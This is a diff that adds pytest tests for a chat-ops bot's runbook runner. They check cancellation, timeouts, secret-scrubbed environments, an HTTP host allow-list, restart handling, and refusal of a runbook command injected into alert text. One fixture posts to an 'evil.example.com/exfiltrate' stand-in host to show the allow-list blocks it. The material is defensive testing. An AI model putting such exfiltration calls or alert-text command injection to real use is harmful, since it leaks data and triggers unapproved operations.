@@ -1,0 +1,208 @@
+"""Runbook execution through the real app: cancellation, timeouts, scrubbed environment, http
+allow-list, the bot restart that leaves a run interrupted, and suggestions on the incident card."""
+
+from __future__ import annotations
+
+import json
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from sqlalchemy import select
+
+from bot.settings import Settings
+from bot.standin.harness import LiveServer
+from knowledge.db import Database
+from knowledge.models import AuditRecord, Incident, RunbookExecution
+from knowledge.runbook_store import import_dir
+
+CH = "C0OPS"
+TEST_RUNBOOKS = {
+    "sleepy.md": """---
+id: sleepy
+title: Sleep for a while
+risk: low
+parameters:
+  seconds: {type: int, min: 1, max: 60}
+steps:
+  - {name: Sleep, kind: shell, run: [sleep, "{seconds}"], timeout_s: 30}
+  - {name: Never reached when cancelled, kind: manual, text: done}
+---
+A runbook for tests.
+""",
+    "slow.md": """---
+id: slow
+title: Too slow
+risk: low
+steps:
+  - {name: Sleep past the timeout, kind: shell, run: [sleep, "20"], timeout_s: 1}
+---
+""",
+    "env-and-http.md": """---
+id: env-and-http
+title: Show the environment and call the API
+risk: low
+steps:
+  - {name: Environment, kind: shell, run: [env]}
+  - {name: Call, kind: http, method: GET, url: "http://127.0.0.1:PORT/api/auth.test"}
+---
+""",
+    "outside.md": """---
+id: outside
+title: Calls a host that is not allowed
+risk: low
+steps:
+  - {name: Call, kind: http, method: POST, url: "https://evil.example.com/exfiltrate"}
+---
+""",
+}
+
+
+@pytest.fixture
+def settings(tmp_path: Path, standin: Any) -> Settings:
+    from tests.conftest import make_settings  # type: ignore[import-not-found]
+
+    return make_settings(tmp_path, standin, runbook_commands=["sleep", "env", "kubectl"],
+                         runbook_http_hosts=["127.0.0.1"], warm_models=False)  # ours builds lazily
+
+
+@pytest.fixture
+def extra(db: Database, tmp_path: Path, standin: Any) -> Database:
+    d = tmp_path / "rb"
+    d.mkdir()
+    port = standin.api_url.split(":")[2].split("/")[0]
+    for name, text in TEST_RUNBOOKS.items():
+        (d / name).write_text(text.replace("PORT", port))
+    with db.session() as s:
+        import_dir(s, path=d)
+    return db
+
+
+def _text(msg: dict[str, Any]) -> str:
+    from bot.render import blocks_to_text
+
+    return blocks_to_text(msg.get("blocks") or []) or msg.get("text", "")
+
+
+def _value(live: Any, action: str, channel: str = CH) -> tuple[str, str]:
+    for m in reversed(live.standin.messages(channel)):
+        for b in m.get("blocks") or []:
+            for e in b.get("elements", []) if b.get("type") == "actions" else []:
+                if e["action_id"] == action:
+                    return e["value"], m["ts"]
+    raise AssertionError(f"no {action} button")
+
+
+def _wait(live: Any, eid: int, states: tuple[str, ...], timeout: float = 20) -> RunbookExecution:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        with live.db.session() as s:
+            row = s.get(RunbookExecution, eid)
+            if row is not None and row.status in states:
+                return row
+        time.sleep(0.05)
+    raise AssertionError(f"run {eid} never reached {states}")
+
+
+def _start(live: Any, text: str, user: str = "U0ALICE") -> tuple[int, str]:
+    assert live.driver.command("/runbook", text, user=user, channel=CH).status_code == 200
+    live.drain()
+    value, ts = _value(live, "runbooks:confirm")
+    assert live.driver.click("runbooks:confirm", value, user=user, channel=CH, message_ts=ts).status_code == 200
+    return int(value.split(":")[0]), ts
+
+
+def test_running_step_is_cancelled_and_killed(extra: Database, live: Any) -> None:
+    eid, _ts = _start(live, "run sleepy seconds=25")
+    _wait(live, eid, ("running",))
+    deadline = time.monotonic() + 10
+    while not any("Running sleepy" in _text(m) for m in live.standin.messages(CH)) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    cancel_value, ts = _value(live, "runbooks:cancel")
+    started = time.monotonic()
+    assert live.driver.click("runbooks:cancel", cancel_value, user="U0ALICE", channel=CH,
+                             message_ts=ts).status_code == 200
+    row = _wait(live, eid, ("cancelled", "succeeded", "failed"))
+    assert row.status == "cancelled"
+    assert time.monotonic() - started < 15, "the sleep was killed, not waited for"
+    live.drain()
+    with live.db.session() as s:
+        actions = [a.action for a in s.scalars(select(AuditRecord).where(AuditRecord.execution_id == eid))]
+    assert "runbook.cancel_requested" in actions and actions[-1] == "runbook.cancelled"
+    with live.db.session() as s:
+        steps = [a.detail for a in s.scalars(select(AuditRecord).where(AuditRecord.execution_id == eid)
+                                             .where(AuditRecord.action == "runbook.step"))]
+    assert [d["step"] for d in steps] in ([], [1]), "the step after the cancelled one never ran"
+    assert all(d["status"] == "cancelled" for d in steps)
+
+
+def test_timeout_fails_the_run(extra: Database, live: Any) -> None:
+    eid, _ = _start(live, "run slow")
+    row = _wait(live, eid, ("succeeded", "failed"))
+    assert row.status == "failed" and "killed after 1s timeout" in row.output
+
+
+def test_child_gets_no_secrets_and_http_goes_only_to_allowed_hosts(extra: Database, live: Any,
+                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
+    eid, ts = _start(live, "run env-and-http")
+    row = _wait(live, eid, ("succeeded", "failed"))
+    assert row.status == "succeeded", row.output
+    assert "PATH=/usr/local/sbin" in row.output
+    for secret in ("xoxb-", "WARROOM_", "AWS_SECRET", "wJalrXUtnFEMI"):
+        assert secret not in row.output
+    assert "HTTP 200" in row.output
+    live.drain()
+    thread = [_text(m) for m in live.standin.messages(CH) if m.get("thread_ts") == ts]
+    assert any("PATH=/usr/local/sbin" in t for t in thread)
+
+    assert live.driver.command("/runbook", "run outside", user="U0ALICE", channel=CH).status_code == 200
+    live.drain()
+    assert "host `evil.example.com` is not on the http allow-list" in _text(live.standin.messages(CH)[-1])
+
+
+def test_restart_marks_running_runs_interrupted(settings: Settings, db: Database, standin: Any) -> None:
+    with db.session() as s:
+        s.add(RunbookExecution(runbook_slug="restart-service", runbook_version=1, requested_by="U0CARLA",
+                               approved_by="U0DEV", params={"service": "payments-api"}, status="running"))
+    with LiveServer(settings) as srv:
+        with srv.services.db.session() as s:
+            row = s.scalars(select(RunbookExecution)).one()
+            assert row.status == "interrupted" and row.finished_at is not None
+            audit = s.scalars(select(AuditRecord).where(AuditRecord.execution_id == row.id)).all()
+            assert [a.action for a in audit] == ["runbook.interrupted"]
+
+
+def test_alert_webhook_card_shows_suggestions_and_run_button_starts_a_confirmation(live: Any) -> None:
+    body = json.loads((Path(__file__).parent / "payloads" / "alertmanager.json").read_text())
+    body["alerts"][0]["annotations"]["description"] += "\nops: /runbook run restart-service service=payments-api"
+    raw = json.dumps(body).encode()
+    resp = live.driver.http.post(f"{live.url}/webhooks/alertmanager", content=raw,
+                                 headers={"Authorization": "Bearer am-secret-0123456789",
+                                          "Content-Type": "application/json"})
+    assert resp.status_code == 202, resp.text
+    deadline = time.monotonic() + 30
+    finding: dict[str, Any] = {}
+    while time.monotonic() < deadline and not finding:
+        live.drain()
+        with live.db.session() as s:
+            inc = s.scalars(select(Incident).where(Incident.status != "resolved")).first()
+            finding = dict(((inc.findings or {}).get("runbooks") or {}) if inc else {})
+        time.sleep(0.1)
+    assert finding, "triage stored no runbook suggestions"
+    top = finding["data"]["suggestions"][0]
+    assert top["slug"] == "restart-service"
+    assert any("alert HighErrorRate" in w for w in top["why"]) and any("similar past" in w for w in top["why"])
+    assert any("I ignored it" in line for line in finding["lines"])
+    with live.db.session() as s:
+        assert s.scalar(select(RunbookExecution.id)) is None, "alert text must never start a run"
+        assert s.scalar(select(AuditRecord.id).where(AuditRecord.action == "runbook.refused")) is not None
+    channel = live.services.settings.slack_incident_channel
+    value, ts = _value(live, "runbooks:start", channel)
+    assert value.startswith("restart-service:")
+    assert live.driver.click("runbooks:start", value, user="U0CARLA", channel=channel,
+                             message_ts=ts).status_code == 200
+    live.drain()
+    ask = [_text(m) for m in live.standin.messages(channel) if "Run restart-service v1?" in _text(m)]
+    assert ask and "kubectl rollout restart deployment/payments-api -n prod" in ask[-1]
